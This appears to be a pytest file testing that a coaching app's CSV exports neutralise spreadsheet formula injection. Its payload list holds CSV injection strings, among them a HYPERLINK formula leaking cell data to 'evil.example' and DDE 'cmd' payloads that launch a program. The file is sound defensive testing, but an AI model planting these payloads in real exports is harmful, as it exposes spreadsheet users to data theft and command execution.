"""CSV injection: no cell of a CSV the app writes is run by a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from planner.model import Report
from tests.web.conftest import add_reports
from tests.web.test_coach import coach_signup
from tests.web.test_roster import seed_roster
from web.core.spreadsheet import safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3",
    "\t=1+1",
    "\r=1+1",
    '\n=HYPERLINK("http://evil.example")',
    "  =1+1",
    "\n\n @SUM(1)",
    "＝1+1",  # a full-width equals sign
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_is_prefixed_with_a_quote(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Ana", "", "a=b", "Smith-Jones", "note: -2 today", "'quoted"])
def test_plain_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [7, 0, -3, 2.5, None])
def test_numbers_the_app_writes_stay_numbers(number):
    assert safe_cell(number) == number


def rows_of(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_the_roster_csv_defuses_every_payload_in_a_name_and_keeps_numbers(app, client):
    coach_signup(client)
    seed_roster(app, "coach@example.com", 1)  # an athlete with reports: numbers to keep
    for payload in PAYLOADS:
        assert client.post("/coach/athletes", data={"name": payload}).status_code == 302
    rows = rows_of(client.get("/coach/roster.csv"))
    names = [row["name"] for row in rows if row["name"] != "Athlete 0000"]
    assert len(names) == len(PAYLOADS)
    assert all(name.startswith("'") for name in names)
    seeded = next(row for row in rows if row["name"] == "Athlete 0000")
    assert seeded["last_pain"] == "0" and seeded["adherence"].isdigit()
    json_names = {r["name"] for r in json.loads(client.get("/coach/roster.json").data)}
    assert {p.strip() for p in PAYLOADS} <= json_names  # JSON is data, not a spreadsheet


@pytest.mark.parametrize(
    "note", ['\n=HYPERLINK("http://evil.example","x")', "@cmd", "-1+1", "+1", " =1"]
)
def test_the_log_csv_defuses_a_note_that_starts_a_formula_after_a_line_break(
    app, client, plan_id, note
):
    add_reports(app, plan_id, [Report(date(2025, 3, 19), pain_rest=1, note=note)])
    rows = rows_of(client.get(f"/plans/{plan_id}/export.csv"))
    assert rows[0]["note"] == "'" + note
    assert rows[0]["pain_rest"] == "1"
